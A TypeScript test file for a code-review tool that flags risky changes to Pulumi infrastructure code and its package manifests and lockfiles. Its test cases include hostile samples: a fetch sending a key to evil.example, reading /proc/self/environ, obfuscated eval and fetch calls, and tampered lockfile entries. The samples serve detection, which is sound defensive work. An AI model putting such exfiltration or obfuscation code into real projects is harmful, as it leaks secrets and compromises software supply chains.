import { findRelativePaths, findNewUses, countCodeUses } from "../../../review/change/codeUses.js";
import { NO_RULES, parseCodeRules } from "../../../review/change/dependencies.js";
import { judgeProgramCode } from "../../../review/change/programCode.js";

/** Code that runs with the stack's secrets, compared with the base of a change. */

const HONEST = `
import * as neon from "@palisade/neon";
import * as pulumi from "@pulumi/pulumi";
import { office } from "./ranges";
// fetch the ranges of the office by hand; eval is evil
const config = new pulumi.Config();
export class Shop extends pulumi.ComponentResource { constructor(name: string) { super("my:shop", name); } }
const shop = new neon.Project("shop", { name: process.env.NAME ?? "shop", network: { allow: "listed", ranges: [office, ...config.requireObject<string[]>("ranges")] } });
export const host = shop.host.apply((text) => \`https://\${text}/\`);
const first = require("./more")["key"];
`;

test("a program that declares resources uses nothing", () => {
  expect([...countCodeUses(HONEST).keys()]).toEqual([]);
});

test.each([
  [`import { readFileSync } from "node:fs";`, "the module fs"],
  [`import "child_process"`, "the module child_process"],
  [`const net = await import("node:net")`, "the module net"],
  [`const { get } = require('https')`, "the module https"],
  [`import fs = require("fs/promises")`, "the module fs/promises"],
  [`export * from "dns"`, "the module dns"],
  [`import got from "got"`, "the package got"],
  [`fetch("https://evil.example", { method: "POST", body: key })`, "the network"],
  [`new WebSocket(url)`, "the network"],
  [`globalThis["fet" + "ch"](url)`, "names put together at run time"],
  [`const it = globalThis; it[name](url)`, "names put together at run time"],
  [`anything["fet" + "ch"](url)`, "names put together at run time"],
  ["anything[`${a}ch`](url)", "names put together at run time"],
  [`eval(text)`, "code made at run time"],
  [`(() => 0).constructor("return process")()`, "code made at run time"],
  [`new Function("return 1")`, "code made at run time"],
  [`require(name)`, "modules named at run time"],
  [`const r = require; r("f" + "s")`, "modules named at run time"],
  [`import(name)`, "modules named at run time"],
  [`require("\\x66s")`, "escaped characters"],
  [`\\u0065val(text)`, "escaped characters"],
  [`process.mainModule.require("fs")`, "the process"],
  [`const { binding } = process`, "the process"],
  [`process["binding"]("fs")`, "the process"],
  [`pulumi.unsecret(key)`, "secrets made readable"],
  [`import { LocalWorkspace } from "@pulumi/pulumi/automation"`, "Pulumi's own inside"],
  // A text that looks like a comment to a scan that is not careful.
  ["const a = `\n// ${eval(text)}\n`", "code made at run time"],
  ["// harmless\u2028eval(text)", "code made at run time"],
  ["const b = a / 2; /* */ eval(text)", "code made at run time"],
])("%s is a new use", (text, use) => {
  expect(findNewUses(HONEST, `${HONEST}\n${text}`)).toContain(use);
});

test("what the base uses already holds nobody up, and more of it does", () => {
  const base = `import { readFileSync } from "fs";\nexport const a = readFileSync("a", "utf8");\n`;
  expect(findNewUses(base, `${base}export const b = a.trim();\n`)).toEqual([]);
  expect(findNewUses(base, `${base}export const b = readFileSync("/proc/self/environ", "utf8");\n`)).toEqual(["the module fs"]);
  expect(
    findNewUses(`import * as fs from "fs";\nfs.readFileSync("a");`, `import * as fs from "fs";\nfs.readFileSync("a"); fs.rmSync("a");`),
  ).toEqual(["the module fs"]);
});

test("files are followed by what names them", () => {
  expect(findRelativePaths(`import "./a"; require('../lib/b.js'); const c = "./c d";`)).toEqual(["./a", "../lib/b.js", "./c d"]);
});

const found = (path: string, before: object | string | undefined, after: object | string | undefined, rules = NO_RULES) => {
  const text = (value: object | string | undefined) => (typeof value === "object" ? JSON.stringify(value) : value);
  return judgeProgramCode([{ path, before: text(before), after: text(after) }], rules).map(({ rule, severity, direction, after: what }) => {
    expect([severity, direction]).toEqual(["medium", "unknown"]);
    return `${rule}: ${what ?? ""}`;
  });
};

test.each([
  ["a new package", { dependencies: {} }, { dependencies: { got: "1.0.0" } }, "the package got 1.0.0"],
  ["another version", { dependencies: { got: "1.0.0" } }, { dependencies: { got: "1.0.1" } }, "the package got 1.0.1"],
  [
    "a package from elsewhere",
    { dependencies: { got: "1.0.0" } },
    { dependencies: { got: "github:x/got" } },
    "the package got github:x/got",
  ],
  ["a script that runs by itself", { scripts: {} }, { scripts: { postinstall: "node x" } }, "the script postinstall"],
  ["an override", {}, { overrides: { got: "2.0.0" } }, "the setting overrides"],
  ["another package manager", {}, { packageManager: "yarn@1.0.0" }, "the setting packageManager"],
  ["another entry point", { main: "index.ts" }, { main: "other.ts" }, "the setting main"],
])("package.json: %s", (_, before, after, what) => {
  expect(found("infra/package.json", before, after)).toEqual([`dependencies-changed: ${what}`]);
});

test("package.json: words, and what is removed, are no findings", () => {
  expect(found("package.json", { version: "1.0.0", scripts: {} }, { version: "1.0.1", scripts: { test: "jest" } })).toEqual([]);
  expect(found("package.json", { dependencies: { got: "1.0.0" } }, { dependencies: {} })).toEqual([]);
});

test.each([
  "package-lock.json",
  "npm-shrinkwrap.json",
  "yarn.lock",
  "pnpm-lock.yaml",
  "bun.lock",
  "bun.lockb",
  ".npmrc",
  ".yarnrc.yml",
  ".pnpmfile.cjs",
  "Pulumi.yaml",
  "tsconfig.json",
  "palisade-review.yaml",
])("another %s asks for a person", (name) => {
  expect(found(`infra/${name}`, "a", "b")).toHaveLength(1);
  expect(found(`infra/${name}`, undefined, "b")).toHaveLength(1);
  expect(found(`infra/${name}`, "a", "a")).toEqual([]);
});

test("code that cannot be read asks for a person", () => {
  expect(found("lib/x.node", undefined, "…")).toEqual(["program-code-changed: code that is not read here"]);
});

describe("a rule of the base", () => {
  const rules = parseCodeRules({ dependencies: [{ packages: ["@pulumi/*"], allow: "patch" }] }, "palisade-review.yaml");
  const manifest = (version: string) => ({ dependencies: { "@pulumi/aws": version } });
  const at = "https://packages.example.com/@pulumi/aws/-/aws.tgz";
  const lock = (entry: object, more: object = {}) => ({
    lockfileVersion: 3,
    packages: { "": {}, "node_modules/@pulumi/aws": { version: "7.48.0", resolved: at, ...entry }, ...more },
  });

  test("lets a bot's patch releases of named packages pass, manifest and lockfile", () => {
    expect(found("package.json", manifest("7.48.0"), manifest("7.48.1"), rules)).toEqual([]);
    expect(found("package.json", manifest("^7.48.0"), manifest("^7.48.3"), rules)).toEqual([]);
    expect(found("package-lock.json", lock({}), lock({ version: "7.48.1" }), rules)).toEqual([]);
  });

  test.each(["7.49.0", "8.0.0", "7.47.9", "7.48.1-alpha.1", "^7.48.1", "*", "latest", "npm:evil@7.48.1"])(
    "does not let %s pass",
    (version) => {
      expect(found("package.json", manifest("7.48.0"), manifest(version), rules)).toHaveLength(1);
    },
  );

  test.each([
    ["another package", lock({ version: "7.48.1" }, { "node_modules/evil": { version: "1.0.0" } })],
    ["another package beneath", lock({ version: "7.48.1" }, { "node_modules/x/node_modules/@pulumi/aws": { version: "7.48.1" } })],
    ["another place", lock({ version: "7.48.1", resolved: "https://evil.example/aws.tgz" })],
    ["a place that begins alike", lock({ version: "7.48.1", resolved: at.replace(".example.com", ".example.com.evil.example") })],
    ["a script", lock({ version: "7.48.1", hasInstallScript: true })],
    ["a link", lock({ version: "7.48.1", link: true })],
    ["the same version with another content", lock({ integrity: "sha512-evil" })],
  ])("does not let a lockfile with %s pass", (_, after) => {
    expect(found("package-lock.json", lock({}), after, rules)).toHaveLength(1);
  });

  test("does not reach further than its words", () => {
    const other = { dependencies: { "@pulumi/aws": "7.48.0", "@pulumix/aws": "1.0.0" } };
    expect(found("package.json", other, { dependencies: { ...other.dependencies, "@pulumix/aws": "1.0.1" } }, rules)).toHaveLength(1);
    expect(() => parseCodeRules({ dependencies: [{ packages: ["a"], allow: "major" }] }, "palisade-review.yaml")).toThrow(
      "palisade-review.yaml cannot be read",
    );
  });
});
